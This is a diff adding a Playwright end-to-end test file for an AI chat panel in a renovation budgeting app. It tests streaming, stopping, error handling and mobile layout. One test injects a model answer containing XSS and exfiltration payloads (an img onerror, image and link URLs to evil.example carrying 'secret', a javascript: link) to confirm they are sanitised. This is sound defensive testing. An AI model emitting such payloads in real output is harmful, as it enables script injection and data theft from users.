@@ -1,0 +1,266 @@
+import { mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import type { Page } from '@playwright/test';
+import { type ModelServer, startModelServer } from '../src/server/testing/model-servers.ts';
+import { freePort, startProduct } from './product.ts';
+import {
+  createExpense,
+  createProject,
+  expect,
+  expectAccessible,
+  expectNoSidewaysScroll,
+  signedInTest,
+  test,
+} from './test.ts';
+
+/** The product with a language model behind it, which runs on loopback and does as it is told. */
+const modelTest = signedInTest.extend<object, { model: ModelServer & { productUrl: string } }>({
+  model: [
+    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the fixtures a function needs from this pattern
+    async ({}, use) => {
+      const dataDir = await mkdtemp(path.join(tmpdir(), 'plumbline-chat-'));
+      const model = await startModelServer('openai');
+      const product = await startProduct({
+        dataDir,
+        port: await freePort(),
+        env: { AI_PROVIDER: 'openai', AI_MODEL: 'loopback', AI_BASE_URL: model.baseUrl },
+      });
+      // A worker of its own: nothing else runs in it.
+      process.env['PRODUCT_URL'] = product.url;
+      await use(Object.assign(model, { productUrl: product.url }));
+      await product.stop();
+      await model.close();
+      await rm(dataDir, { recursive: true });
+    },
+    { scope: 'worker' },
+  ],
+  baseURL: async ({ model }, use) => {
+    await use(model.productUrl);
+  },
+});
+
+const opener = (page: Page) => page.getByRole('button', { name: 'Open AI Assistant' });
+const panel = (page: Page) => page.getByRole('dialog', { name: 'AI Assistant' });
+const input = (page: Page) => panel(page).getByRole('textbox', { name: 'Your message' });
+
+async function ask(page: Page, question: string) {
+  await input(page).fill(question);
+  await input(page).press('Enter');
+}
+
+async function openPanel(page: Page) {
+  await opener(page).click();
+  await expect(panel(page)).toBeVisible();
+}
+
+modelTest('a question is answered word by word, and can be stopped', async ({ page, model }) => {
+  const chatCalls: string[] = [];
+  page.on('request', (request) => {
+    if (request.url().includes('/api/ai-chat')) chatCalls.push(request.method());
+  });
+  await createProject(page);
+  await page.goto('/');
+  await expect(page.getByRole('link', { name: 'Dashboard' }).first()).toBeVisible();
+  await expect(opener(page)).toBeHidden();
+  await page.goto('/dashboard');
+  await expect(opener(page)).toBeVisible();
+  expect(chatCalls).toEqual([]);
+
+  await opener(page).focus();
+  await page.keyboard.press('Enter');
+  await expect(input(page)).toBeFocused();
+  await expect(
+    panel(page).getByText('Ask me anything about your renovation project!'),
+  ).toBeVisible();
+  await expect(input(page)).toHaveAttribute(
+    'placeholder',
+    'Ask about budgets, timelines, materials...',
+  );
+
+  // Shift+Enter is a new line; Enter sends.
+  await page.keyboard.type('What is');
+  await page.keyboard.press('Shift+Enter');
+  await page.keyboard.type('left?');
+  await expect(input(page)).toHaveValue('What is\nleft?');
+  const more = Promise.withResolvers<void>();
+  model.script = () => ({ pieces: [], until: more.promise });
+  await page.keyboard.press('Enter');
+  await expect(panel(page).getByText('What is left?')).toBeVisible();
+  await expect(panel(page).getByText('Thinking...', { exact: true })).toBeVisible();
+  await expect(panel(page).getByText('AI is thinking...')).toBeVisible();
+  await expect(input(page)).toHaveValue('');
+  await panel(page).getByRole('button', { name: 'Stop' }).click();
+  await model.calls.at(-1)?.hungUp;
+  more.resolve();
+  await expect(panel(page).getByText('Stopped. The answer was not kept.')).toBeVisible();
+  await expect(panel(page).getByText('Thinking...', { exact: true })).toBeHidden();
+
+  const rest = Promise.withResolvers<void>();
+  const lines = Array.from({ length: 60 }, (_, index) => `- Line ${index}\n`);
+  model.script = () => ({ pieces: ['**So far**\n', ...lines], until: rest.promise });
+  await ask(page, 'List them');
+  const list = panel(page).getByRole('region', { name: 'Messages' });
+  await expect(list.getByText('Line 59')).toBeInViewport();
+  // Whoever scrolls up to read is left in peace.
+  await list.evaluate((element) => {
+    element.scrollTop = 0;
+  });
+  await expect(panel(page).getByRole('button', { name: 'To the latest' })).toBeVisible();
+  // Read out once it is whole, not word by word.
+  const answer = list.getByRole('listitem').filter({ hasText: 'So far' }).last();
+  await expect(list.locator('ol[aria-live=polite]')).toBeVisible();
+  await expect(answer).toHaveAttribute('aria-live', 'off');
+  rest.resolve();
+  await expect(panel(page).getByText('AI is thinking...')).toBeHidden();
+  await expect(answer).not.toHaveAttribute('aria-live');
+  await expect(list.getByText('Line 0', { exact: true })).toBeVisible();
+  expect(await list.evaluate((element) => element.scrollTop)).toBeLessThan(100);
+  await panel(page).getByRole('button', { name: 'To the latest' }).click();
+  await expect(list.getByText('Line 59')).toBeInViewport();
+  await expectAccessible(page);
+
+  // Larger, smaller, closed: the talk is still there.
+  const width = async () => (await panel(page).boundingBox())?.width ?? 0;
+  const small = await width();
+  await panel(page).getByRole('button', { name: 'Expand' }).click();
+  expect(await width()).toBeGreaterThan(small + 200);
+  await panel(page).getByRole('button', { name: 'Collapse' }).click();
+  expect(await width()).toBe(small);
+  await page.keyboard.press('Escape');
+  await expect(panel(page)).toBeHidden();
+  await expect(opener(page)).toBeFocused();
+  await page.getByRole('link', { name: 'Contractors' }).first().click();
+  await openPanel(page);
+  await expect(list.getByText('Line 59')).toBeInViewport();
+  await page.reload();
+  await openPanel(page);
+  await expect(list.getByText('List them')).toBeVisible();
+});
+
+modelTest.describe('when something goes wrong', () => {
+  modelTest.use({ expectedConsole: [/status of 500|net::ERR_FAILED/] });
+
+  modelTest('the words come back and the person is told', async ({ page, model }) => {
+    await createProject(page);
+    await page.goto('/projects');
+    await openPanel(page);
+    await page.route('**/api/ai-chat', (route) =>
+      route.request().method() === 'POST' ? route.abort() : route.continue(),
+    );
+    await ask(page, 'Anybody there?');
+    await expect(panel(page).getByRole('alert')).toContainText('Failed to send message.');
+    await expect(input(page)).toHaveValue('Anybody there?');
+    await expect(panel(page).getByText('Ask me anything')).toBeVisible();
+    await page.unroute('**/api/ai-chat');
+
+    model.script = () => ({ pieces: ['Half an ans'], ending: 'error' });
+    await input(page).press('Enter');
+    await expect(panel(page).getByRole('alert')).toContainText('Try again in a moment.');
+    await expect(panel(page).getByText('Half an ans')).toBeHidden();
+    await expect(input(page)).toHaveValue('Anybody there?');
+    await expectAccessible(page);
+
+    model.script = () => ({ pieces: ['Here ', 'I am.'] });
+    await input(page).press('Enter');
+    await expect(panel(page).getByText('Here I am.', { exact: true })).toBeVisible();
+    await expect(panel(page).getByRole('alert')).toBeHidden();
+    await expect(panel(page).getByRole('listitem')).toHaveText([/Anybody there\?/, /Here I am\./]);
+
+    await input(page).fill('x'.repeat(4_001));
+    await input(page).press('Enter');
+    await expect(panel(page).getByRole('alert')).toHaveText(
+      'A message can have at most 4,000 characters',
+    );
+    await expect(input(page)).toHaveValue('x'.repeat(4_001));
+
+    await page.route('**/api/ai-chat', (route) => route.fulfill({ status: 500, body: '' }));
+    await page.getByRole('button', { name: 'Close', exact: true }).click();
+    await page.reload();
+    await openPanel(page);
+    await expect(panel(page).getByText('Failed to fetch messages')).toBeVisible();
+    await page.unroute('**/api/ai-chat');
+    await panel(page).getByRole('button', { name: 'Try again' }).click();
+    await expect(panel(page).getByText('Here I am.', { exact: true })).toBeVisible();
+  });
+});
+
+modelTest(
+  'an answer is Markdown and never markup, a picture or a hidden address',
+  async ({ page, model, context }) => {
+    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+    const foreign: string[] = [];
+    page.on('request', (request) => {
+      if (request.url().includes('evil.example')) foreign.push(request.url());
+    });
+    const { id } = await createProject(page);
+    await createExpense(page, id, { category: 'labor', description: 'Wiring' });
+    const answer = [
+      '## Where it went',
+      '| Category | Spent |\n|---|---|\n| [Labor](/expenses?category=labor) | **$1,250.40** |',
+      'Run `npm` <img src="https://evil.example/a.png" onerror="alert(1)">',
+      '![chart](https://evil.example/b.png?d=secret)',
+      '[Your bank](https://evil.example/login?d=secret) [script](javascript:alert(1))',
+    ].join('\n\n');
+    model.script = () => ({ pieces: [answer] });
+    await page.goto('/dashboard');
+    await openPanel(page);
+    await ask(page, 'Where did it go?');
+    const copy = panel(page).getByRole('button', { name: 'Copy' });
+    await copy.click();
+    await expect(panel(page).getByText('Copied')).toBeVisible();
+    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(answer);
+    await expect(panel(page).locator('img')).toHaveCount(0);
+    await expect(panel(page).getByText('<img src="https://evil.example/a.png"')).toBeVisible();
+    await expect(panel(page).getByRole('cell', { name: '$1,250.40' })).toBeVisible();
+    const link = panel(page).getByRole('link', { name: 'https://evil.example/login?d=secret' });
+    await expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
+    await expect(link).toHaveAttribute('target', '_blank');
+    await expect(panel(page).getByRole('link')).toHaveCount(2);
+    await expectAccessible(page);
+
+    await panel(page).getByRole('link', { name: 'Labor' }).click();
+    await expect(page).toHaveURL('/expenses?category=labor');
+    await expect(panel(page)).toBeVisible();
+    expect(foreign).toEqual([]);
+
+    await panel(page).getByRole('button', { name: 'Clear history' }).click();
+    const confirm = page.getByRole('alertdialog', { name: 'Clear history' });
+    await page.keyboard.press('Escape');
+    await expect(confirm).toBeHidden();
+    await expect(panel(page)).toBeVisible();
+    await panel(page).getByRole('button', { name: 'Clear history' }).click();
+    await confirm.getByRole('button', { name: 'Clear history' }).click();
+    await expect(panel(page).getByText('Ask me anything')).toBeVisible();
+  },
+);
+
+test.describe('on a phone', () => {
+  test.use({ viewport: { width: 360, height: 740 }, hasTouch: true });
+
+  signedInTest('the built-in assistant answers from one’s own figures', async ({ page }) => {
+    const { id } = await createProject(page, 'Kitchen', '5000');
+    await createExpense(page, id);
+    await page.goto('/dashboard');
+    await opener(page).tap();
+    const box = await panel(page).boundingBox();
+    expect(box?.width).toBeGreaterThan(330);
+    expect(box?.height).toBeCloseTo(740 * 0.7);
+    await expectAccessible(page);
+    await expectNoSidewaysScroll(page);
+    const suggestion = panel(page).getByRole('listitem').getByRole('button').first();
+    const question = (await suggestion.textContent()) ?? '';
+    expect(question).toMatch(/\?$/);
+    await suggestion.tap();
+    await expect(panel(page).getByRole('button', { name: 'Copy' })).toBeVisible();
+    await expect(panel(page).getByText(question)).toBeVisible();
+    await ask(page, 'How much have I spent?');
+    await expect(
+      panel(page).getByRole('listitem').filter({ hasText: '$1,250.40' }).last(),
+    ).toBeVisible();
+    await expectAccessible(page);
+    await expectNoSidewaysScroll(page);
+    await panel(page).getByRole('button', { name: 'Close' }).tap();
+    await expect(opener(page)).toBeFocused();
+  });
+});
